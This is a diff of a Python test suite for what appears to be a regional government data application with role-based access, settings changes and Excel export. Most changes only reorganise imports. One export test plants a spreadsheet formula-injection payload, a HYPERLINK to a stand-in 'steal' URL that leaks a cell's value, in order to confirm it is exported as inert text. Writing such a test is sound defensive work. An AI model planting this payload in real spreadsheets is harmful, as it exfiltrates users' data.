@@ -8,9 +8,13 @@ import pandas as pd
 import pytest
 import sqlalchemy as sa
 
-from core import accounts, admin, audit, demo, exports, importer, settings_view
-from core.accounts import AccessDenied, LoginFailed
-from core.store import open_store
+from core import demo
+from core.access import accounts, admin, audit, exports, roles, settings_change
+from core.access.accounts import LoginFailed
+from core.access.roles import AccessDenied
+from core.ingest import importer
+from core.store.opening import open_store
+
 
 from .extract_fixture import frames
 
@@ -20,7 +24,7 @@ PASSWORD = "correct1horse"
 @pytest.fixture
 def store(store_url):
     s = open_store(store_url)
-    operator = accounts.system_user(s)
+    operator = roles.system_user(s)
     admin.create_user(s, operator, "boss", "局长", "leader", None, PASSWORD)
     admin.create_user(s, operator, "jinan", "济南经办", "city_officer", "370100", PASSWORD)
     admin.create_user(s, operator, "lixia", "历下经办", "county_officer", "370102", PASSWORD)
@@ -39,9 +43,9 @@ def test_passwords_are_salted_slow_hashes(store):
     assert hashes["password_hash"].nunique() == len(hashes)  # same password, different salts
     assert PASSWORD not in "".join(hashes["password_hash"])
     with pytest.raises(ValueError):
-        admin.create_user(store, accounts.system_user(store), "weak", "弱", "leader", None, "short1")
+        admin.create_user(store, roles.system_user(store), "weak", "弱", "leader", None, "short1")
     with pytest.raises(ValueError):
-        admin.create_user(store, accounts.system_user(store), "letters", "弱", "leader", None, "onlyletterslong")
+        admin.create_user(store, roles.system_user(store), "letters", "弱", "leader", None, "onlyletterslong")
 
 
 def test_sign_in_and_scope(store):
@@ -134,7 +138,7 @@ def test_disabled_account_and_reset(store):
 
 
 def test_roles_need_the_right_area(store):
-    operator = accounts.system_user(store)
+    operator = roles.system_user(store)
     with pytest.raises(ValueError):
         admin.create_user(store, operator, "x1", "x", "city_officer", "370102", PASSWORD)  # a county, not a city
     with pytest.raises(ValueError):
@@ -149,7 +153,7 @@ def test_officers_cannot_upload_administer_or_change_settings(store, tmp_path):
     officer = accounts.authenticate(store, "jinan", PASSWORD)
     leader = accounts.authenticate(store, "boss", PASSWORD)
     path = tmp_path / "x.xlsx"
-    from core import exporter
+    from core.ingest import exporter
     exporter.write_xlsx(frames(), path)
     for who in (officer, leader):
         with pytest.raises(AccessDenied):
@@ -163,7 +167,7 @@ def test_officers_cannot_upload_administer_or_change_settings(store, tmp_path):
         with pytest.raises(AccessDenied):
             admin.users(store, who)
         with pytest.raises(AccessDenied):
-            settings_view.change(store, who, "delivery_rate_warning", "0.5")
+            settings_change.change(store, who, "delivery_rate_warning", "0.5")
         with pytest.raises(AccessDenied):
             audit.entries(store, who)
     assert store.counts()["orders"] == 0 and accounts.load(store, "sneaky") is None
@@ -173,12 +177,12 @@ def test_officers_cannot_upload_administer_or_change_settings(store, tmp_path):
 def test_admin_changes_settings_and_the_figures_follow(store):
     root = accounts.authenticate(store, "root", PASSWORD)
     before = store.meta("data_version", "0")
-    settings_view.change(store, root, "delivery_rate_warning", "0.85")
+    settings_change.change(store, root, "delivery_rate_warning", "0.85")
     assert store.settings()["delivery_rate_warning"] == 0.85 and store.meta("data_version") != before
     with pytest.raises(ValueError):
-        settings_view.change(store, root, "delivery_rate_warning", "eighty")
+        settings_change.change(store, root, "delivery_rate_warning", "eighty")
     with pytest.raises(ValueError):
-        settings_view.change(store, root, "province_code", "320000")
+        settings_change.change(store, root, "province_code", "320000")
     changed = _log(store, "setting_changed")
     assert changed[["username", "target"]].values.tolist() == [["root", "delivery_rate_warning"]]
 
@@ -218,7 +222,7 @@ def test_demo_accounts_exist_only_in_a_demo_store(demo_copy, tmp_path):
     assert county.scope[:4] == city.scope[:4] and city.scope.endswith("00") and not county.scope.endswith("00")
     analyst = accounts.authenticate(s, "demo_analyst", demo.DEMO_PASSWORD)
     path = tmp_path / "real.xlsx"
-    from core import exporter
+    from core.ingest import exporter
     exporter.write_xlsx(frames(), path)
     before = s.counts()
     with pytest.raises(importer.DemoInTheWay):  # real data never lands beside the demo unasked
@@ -255,7 +259,7 @@ def test_single_sign_on_maps_to_a_local_account(store):
 def test_the_first_admin_is_made_at_the_command_line(tmp_path):
     import subprocess
     import sys
-    from core.db import ROOT
+    from core.paths import ROOT
     url = f"sqlite:///{tmp_path / 'cli.sqlite3'}"
 
     def cli(*args, stdin=""):
@@ -280,10 +284,13 @@ def test_the_first_admin_is_made_at_the_command_line(tmp_path):
 
 
 def test_an_institution_named_like_a_formula_is_exported_as_text(demo_copy):
-    from core import interviews, marts
-    from core.view import View
+    from core.access import actions
+    from core.read import interviews
+    from core.refresh import marts
+    from core.store import views
+    from core.store.view import View
     leader = accounts.authenticate(demo_copy, "demo_leader", demo.DEMO_PASSWORD)
-    view = View.of(demo_copy, marts.default_view(demo_copy))
+    view = View.of(demo_copy, views.default_view(demo_copy))
     code = interviews.interview_list(view).query("subject_type == 'institution'")["subject_code"].iloc[0]
     name = '=HYPERLINK("http://example.invalid/steal?"&A1,"点击查看")'
     with demo_copy.begin() as conn:  # as an upload could have written it
@@ -291,7 +298,7 @@ def test_an_institution_named_like_a_formula_is_exported_as_text(demo_copy):
                      {"n": name, "c": code})
         demo_copy.bump_data_version(conn)
     view = View.of(demo_copy, marts.ensure_view(demo_copy))
-    wb = openpyxl.load_workbook(io.BytesIO(interviews.export(view, leader)))
+    wb = openpyxl.load_workbook(io.BytesIO(actions.export(view, leader)))
     cells = [row[2] for row in wb["约谈名单"].iter_rows(min_row=2) if row[1].value == code]
     assert len(cells) == 1 and cells[0].value == name and cells[0].data_type == "s"
     evidence = [row[1] for row in wb["预警依据"].iter_rows(min_row=2) if row[0].value == code]
